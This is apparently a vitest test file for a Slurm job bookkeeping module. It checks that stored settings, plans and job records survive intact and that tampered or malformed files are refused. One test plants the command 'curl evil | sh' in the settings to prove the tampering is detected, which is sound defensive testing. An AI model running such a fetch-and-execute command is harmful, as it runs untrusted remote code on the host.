import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import {
  beginBook,
  bookFolder,
  hasBook,
  isCancelled,
  lastPlan,
  markCancelled,
  readJobs,
  readPlan,
  readSettings,
  writeJobs,
  writePlan,
} from '../../../src/study/engine/slurm-book.ts'
import { slurmOptions } from '../../../src/study/engine/slurm-options.ts'
import type { SlurmSettings } from '../../../src/study/engine/slurm-script.ts'
import { emptyFolder } from '../../support/cli.ts'

const settings: SlurmSettings = {
  name: 'ohmbit-0123456789ab',
  options: slurmOptions(['partition=a,exclude=n1,n2,mem=1G,tasks=7,at-once=2,retries=0']),
  command: ['/opt/node', '/opt/main.js'],
  setup: 'module load x\nexport A="b"',
}
const study = () => join(emptyFolder(), 'study')
const refused = (message: RegExp) =>
  expect.objectContaining({ code: 'OHM8002', message: expect.stringMatching(message) })

describe('the bookkeeping of jobs', () => {
  it('keeps settings as they were', async () => {
    const folder = study()
    expect(await hasBook(folder)).toBe(false)
    const digest = await beginBook(folder, settings)
    expect(await hasBook(folder)).toBe(true)
    expect(await readSettings(folder, digest)).toEqual(settings)
  })

  it('a job takes no settings but its own: they hold lines that a shell runs', async () => {
    const folder = study()
    const digest = await beginBook(folder, settings)
    const path = join(bookFolder(folder), 'settings.json')
    writeFileSync(path, readFileSync(path, 'utf8').replace('module load x', 'curl evil | sh'))
    await expect(readSettings(folder, digest)).rejects.toEqual(refused(/not what this job was submitted with/))
    expect((await readSettings(folder, null)).name).toBe(settings.name)
  })

  it.each([
    ['a name that is not of ohmbit', '"ohmbit-0123456789ab"', '"somebody"', /name/],
    ['an unknown option of sbatch', '"partition"', '"wrap"', /unknown key/],
    ['a value that is none', '"a"', '"a b"', /not a value of partition/],
    ['another format', 'ohmbit/slurm/1', 'ohmbit/slurm/9', /format/],
    ['a missing part', '"setup"', '"setdown"', /setup/],
  ])('refuses %s', async (_, from, to, message) => {
    const folder = study()
    await beginBook(folder, settings)
    const path = join(bookFolder(folder), 'settings.json')
    writeFileSync(path, readFileSync(path, 'utf8').replace(from, to))
    await expect(readSettings(folder, null)).rejects.toThrow(message)
  })

  it('keeps plans, their points and shards', async () => {
    const folder = study()
    await beginBook(folder, settings)
    expect(await lastPlan(folder)).toBeNull()
    const plan = {
      ...{ plan: 0, attempt: 2, tasks: 3 },
      points: [{ index: 5, network: 1, values: { 'adc.dac.bits': 8 }, mechanisms: 'all' as const }],
      shards: [
        { point: 5, firstChip: 0, chips: 8 },
        { point: 0, firstChip: 2 ** 31, chips: 1 },
      ],
    }
    await writePlan(folder, plan)
    await writePlan(folder, { ...plan, plan: 12, points: [], shards: [] })
    expect(await readPlan(folder, 0, 2)).toEqual(plan)
    expect(await lastPlan(folder)).toBe(12)
    // A network that the study does not have.
    await expect(readPlan(folder, 0, 1)).rejects.toEqual(refused(/network/))
  })

  it.each([
    ['a path that a profile does not have', '"adc.dac.bits"', '"constructor.x"'],
    ['a chip below 0', '[5,0,8]', '[5,-1,8]'],
    ['a shard of no chips', '[5,0,8]', '[5,0,0]'],
    ['a shard that is cut', '[5,0,8]', '[5,0]'],
    ['no JSON', '[5,0,8]', '[5,0,8'],
  ])('refuses a plan with %s', async (_, from, to) => {
    const folder = study()
    await beginBook(folder, settings)
    const points = [{ index: 5, network: 0, values: { 'adc.dac.bits': 8 }, mechanisms: 'all' as const }]
    await writePlan(folder, { plan: 0, attempt: 0, tasks: 1, points, shards: [{ point: 5, firstChip: 0, chips: 8 }] })
    const path = join(bookFolder(folder), 'plan0000.json')
    const text = readFileSync(path, 'utf8')
    expect(text).toContain(from)
    writeFileSync(path, text.replace(from, to))
    await expect(readPlan(folder, 0)).rejects.toThrow()
  })

  it('begins anew, and removes nothing that is not its own', async () => {
    const folder = study()
    await beginBook(folder, settings)
    await writeJobs(folder, [{ plan: 0, array: 41, after: 42 }])
    await markCancelled(folder)
    expect(await readJobs(folder)).toEqual([{ plan: 0, array: 41, after: 42 }])
    expect(await isCancelled(folder)).toBe(true)
    await beginBook(folder, settings)
    expect(await readJobs(folder)).toEqual([])
    expect(await isCancelled(folder)).toBe(false)

    const other = study()
    mkdirSync(bookFolder(other))
    writeFileSync(join(bookFolder(other), 'thesis.tex'), '')
    await expect(beginBook(other, settings)).rejects.toEqual(expect.objectContaining({ code: 'OHM1006' }))
    expect(existsSync(join(bookFolder(other), 'thesis.tex'))).toBe(true)
  })
})
